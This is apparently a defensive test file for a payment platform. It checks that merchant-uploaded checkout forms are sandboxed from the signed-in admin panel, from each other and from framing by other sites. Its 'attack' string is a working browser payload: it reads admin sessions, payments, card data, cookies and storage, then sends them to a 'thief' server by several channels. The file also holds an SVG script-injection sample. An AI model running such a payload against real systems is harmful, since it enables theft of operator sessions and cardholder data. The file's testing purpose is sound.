/**
 * A merchant's form that attacks: what its script can reach in the browser of an operator who is signed in to the panel, and what one
 * merchant's page can gain of another's. Chapter 30 §9.4, chapter 50 §8.
 */
import assert from 'node:assert/strict'
import { readFile } from 'node:fs/promises'
import { createServer } from 'node:http'
import { after, describe, test } from 'node:test'
import type { BrowserContext, Page } from 'playwright-core'
import { moveForm, uploadForm } from '#server/administration/forms.ts'
import { zipOf } from '#server/administration/zip-sample.ts'
import { makeUser, Browser as PanelClient } from '../admin.ts'
import { CheckoutClient } from '../checkout.ts'
import { openBrowser } from '../chromium.ts'
import { openShop } from '../shop.ts'

const shop = await openShop()
const checkout = new CheckoutClient(shop)
const browser = await openBrowser()
const thief = await startThief()
const panelCalls: { readonly path: string; readonly cookie: string }[] = []
shop.service.app.server.on('request', ({ url = '', headers }) => {
  if (url.startsWith('/admin')) panelCalls.push({ path: url, cookie: headers.cookie ?? '' })
})
after(async () => {
  await browser.close()
  await thief.stop()
  await shop[Symbol.asyncDispose]()
})

/** Another server, which writes down whatever reaches it. */
async function startThief() {
  const received: string[] = []
  const server = createServer((request, response) => {
    const parts: Buffer[] = []
    request.on('data', (part: Buffer) => parts.push(part))
    request.on('end', () => {
      received.push(`${request.method} ${decodeURIComponent(request.url ?? '')} ${Buffer.concat(parts).toString()}`)
      response.writeHead(200, { 'access-control-allow-origin': '*' }).end('taken')
    })
  })
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve))
  const address = server.address()
  if (typeof address !== 'object' || address === null) throw new Error('The server has no port.')
  return {
    url: `http://localhost:${address.port}`,
    received,
    stop: () =>
      new Promise<void>((resolve) => {
        server.close(() => resolve())
        server.closeAllConnections()
      }),
  }
}

/** Every way out that a script has; what it has not stolen it does not send. */
const attack = (thiefUrl: string): string => `
;(async () => {
  const loot = {}
  const read = async (path, init = {}) => {
    const reply = await fetch(path, { credentials: 'include', ...init })
    if (!reply.ok) throw new Error(String(reply.status))
    return reply.json()
  }
  const tried = async (name, get) => { try { loot[name] = await get() } catch { /* the next one */ } }
  await tried('session', () => read('/admin/api/session'))
  await tried('payments', () => read('/admin/api/payments'))
  const [payment] = loot.payments?.payments ?? []
  if (payment) {
    const path = '/admin/api/merchants/' + payment.merchantId + '/payments/' + payment.id + '/card'
    const headers = { 'content-type': 'application/json', 'x-csrf-token': loot.session?.csrf ?? '' }
    const body = JSON.stringify({ reason: 'because' })
    await tried('card', () => read(path, { method: 'POST', headers, body }))
  }
  await tried('cookie', () => document.cookie || Promise.reject())
  await tried('storage', () => JSON.stringify(localStorage))
  await tried('framed', async () => {
    const frame = document.createElement('iframe')
    frame.src = '/admin'
    document.body.append(frame)
    await new Promise((resolve) => { frame.onload = resolve; setTimeout(resolve, 1500) })
    return frame.contentDocument.body.innerHTML || Promise.reject()
  })
  window.loot = loot
  if (Object.keys(loot).length > 0) {
    const text = encodeURIComponent(JSON.stringify(loot).slice(0, 3000))
    fetch('${thiefUrl}/fetch?' + text, { mode: 'no-cors' }).catch(() => {})
    navigator.sendBeacon('${thiefUrl}/beacon', text)
    new Image().src = '${thiefUrl}/image?' + text
    const frame = document.createElement('iframe')
    frame.name = 'out'
    frame.src = '${thiefUrl}/frame?' + text
    document.body.append(frame)
    const form = Object.assign(document.createElement('form'), { action: '${thiefUrl}/form?' + text, method: 'post', target: 'out' })
    document.body.append(form)
    form.submit()
    await new Promise((resolve) => setTimeout(resolve, 1000))
  }
  document.documentElement.dataset.attacked = 'yes'
})()
`

const sample = new URL('../../../web/sdk/sample-form/', import.meta.url)
const sampleFile = (path: string): Promise<string> => readFile(new URL(path, sample), 'utf8')

/** The sample form with some lines added, uploaded and approved. */
async function approvedForm(formId: string, more: string, merchant = 'demo'): Promise<string> {
  const archive = zipOf({
    'index.html': (await sampleFile('index.html')).replaceAll('sample-form/', `${formId}/`),
    'js/form.js': (await sampleFile('js/form.js')) + more,
    'style/form.css': await sampleFile('style/form.css'),
    'img/lock.svg': await sampleFile('img/lock.svg'),
  })
  const office = { ...shop.base, by: 'test' }
  const merchantId = shop.service.configuration.byKey(shop.merchant(merchant).key)?.merchant.id ?? ''
  const uploaded = await uploadForm(office, { merchantId, formId, archive })
  assert.ok(uploaded.ok, JSON.stringify(uploaded))
  const moved = await moveForm(office, uploaded.form, 'approved')
  assert.ok(moved.ok, JSON.stringify(moved))
  return moved.form.id
}

async function link(over: Readonly<Record<string, unknown>>): Promise<string> {
  const answer = await checkout.session(over)
  assert.equal(answer.http, 200, answer.text)
  return answer.body.redirect_url
}

/** A browser in which an owner is signed in to the panel. */
async function operator(): Promise<BrowserContext> {
  const client = new PanelClient(shop.url)
  assert.equal((await client.signIn(await makeUser(shop))).http, 200)
  const context = await browser.newContext()
  context.setDefaultTimeout(10_000)
  const [name = '', value = ''] = client.cookie.split('=')
  await context.addCookies([{ name, value, url: `${shop.url}/admin` }])
  return context
}

const attacked = (page: Page): Promise<unknown> => page.locator('html[data-attacked]').waitFor()

describe('a form that attacks the panel, opened by an operator who is signed in', () => {
  test('reads nothing of the panel, nothing leaves the browser, and the form still works', async () => {
    assert.equal((await shop.sale()).body.result, 'SUCCESS')
    await approvedForm('attack', attack(thief.url))
    const context = await operator()
    const panel = await context.newPage()
    await panel.goto(`${shop.url}/admin`)
    await panel.getByRole('heading', { level: 1 }).waitFor()
    await panel.close()
    panelCalls.length = 0
    const page = await context.newPage()
    await page.goto(await link({ form_id: 'attack' }))
    await page.locator('#order:not(:empty)').waitFor()
    await attacked(page)
    assert.deepEqual(await page.evaluate('loot'), {})
    assert.deepEqual(thief.received, [])
    assert.deepEqual(
      panelCalls.filter(({ cookie }) => cookie !== ''),
      [],
    )
    await context.close()
  })
})

describe('documents of merchants', () => {
  test('a file of an archive that is opened by itself runs nothing and has no origin', async () => {
    const svg = '<svg xmlns="http://www.w3.org/2000/svg"><script>document.title = "ran " + origin</script></svg>'
    const archive = zipOf({ 'index.html': '<p>form</p>', 'img/a.svg': svg, 'js/a.js': 'document.title = "ran"' })
    const office = { ...shop.base, by: 'test' }
    const merchantId = shop.service.configuration.byKey(shop.merchant().key)?.merchant.id ?? ''
    const uploaded = await uploadForm(office, { merchantId, formId: 'files', archive })
    assert.ok(uploaded.ok && (await moveForm(office, uploaded.form, 'approved')).ok)
    const page = await (await browser.newContext()).newPage()
    for (const file of ['img/a.svg', 'js/a.js']) {
      const reply = await page.goto(`${shop.url}/forms/${uploaded.form.id}/${file}`)
      assert.equal(await page.evaluate('self.origin'), 'null', file)
      assert.doesNotMatch(await page.title(), /ran/, file)
      assert.equal(reply?.headers()['x-content-type-options'], 'nosniff', file)
    }
    await page.context().close()
  })

  test('two forms that are open side by side reach neither each other’s document nor its storage', async () => {
    await approvedForm('left', '')
    await approvedForm('right', '', 'demo-sha256')
    const context = await browser.newContext()
    const left = await context.newPage()
    await left.goto(await link({ form_id: 'left' }))
    const { redirect_url: other } = (
      await checkout.session({ form_id: 'right' }, { merchant: 'demo-sha256', digest: 'sha256' })
    ).body
    const outcome = await left.evaluate(`(async () => {
      const tried = (get) => { try { return String(get()) } catch (error) { return error.name } }
      const opened = window.open(${JSON.stringify(other)})
      await new Promise((resolve) => setTimeout(resolve, 1500))
      return [
        tried(() => opened.document.body.innerHTML),
        tried(() => opened.location.href),
        tried(() => localStorage.length),
        tried(() => document.cookie),
      ]
    })()`)
    assert.deepEqual(outcome, ['SecurityError', 'SecurityError', 'SecurityError', 'SecurityError'])
    const [, right] = context.pages()
    assert.equal(
      await right?.evaluate('(() => { try { return opener.document.title } catch (e) { return e.name } })()'),
      'SecurityError',
    )
    await context.close()
  })
})

describe('a document without an origin', () => {
  const ask = (token: string, path = 'session') =>
    fetch(`${shop.url}/page/v1/${path}`, { headers: { token, origin: 'null' } })

  test('is answered for a session that shows a form, without credentials, and refused for any other', async () => {
    await approvedForm('plain', '')
    const [shown = '', standard = ''] = [await link({ form_id: 'plain' }), await link({})].map(
      (url) => url.split('/auth/')[1],
    )
    const answer = await ask(shown)
    assert.equal(answer.status, 200)
    assert.equal(answer.headers.get('access-control-allow-origin'), 'null')
    assert.equal(answer.headers.get('access-control-allow-credentials'), null)
    assert.equal((await ask(standard)).status, 403)
  })

  test('is offered no wallet, which needs an origin', async () => {
    await approvedForm('walletless', '')
    const token = (await link({ form_id: 'walletless', methods: ['card', 'walletapay', 'walletbpay'] })).split(
      '/auth/',
    )[1]
    const { methods } = (await (await ask(token ?? '')).json()) as { methods: { code: string }[] }
    assert.deepEqual(
      methods.map(({ code }) => code),
      ['card'],
    )
  })
})

describe('the hosted page in a frame', () => {
  test('is shown by the site that its session names, and by no other', async () => {
    const token = (await link({ success_url: `${thief.url}/paid` })).split('/auth/')[1]
    const other = (await link({})).split('/auth/')[1]
    const page = await (await browser.newContext()).newPage()
    await page.goto(thief.url)
    const frame = (of: string | undefined): Promise<unknown> =>
      page.evaluate(`new Promise((resolve) => {
        const frame = document.createElement('iframe')
        frame.src = '${shop.url}/auth/${of}'
        frame.onload = resolve
        document.body.append(frame)
      })`)
    await frame(token)
    await page.frameLocator('iframe').getByLabel('Card number').waitFor()
    await page.reload()
    await frame(other)
    assert.equal(await page.frameLocator('iframe').getByLabel('Card number').count(), 0)
    await page.context().close()
  })
})
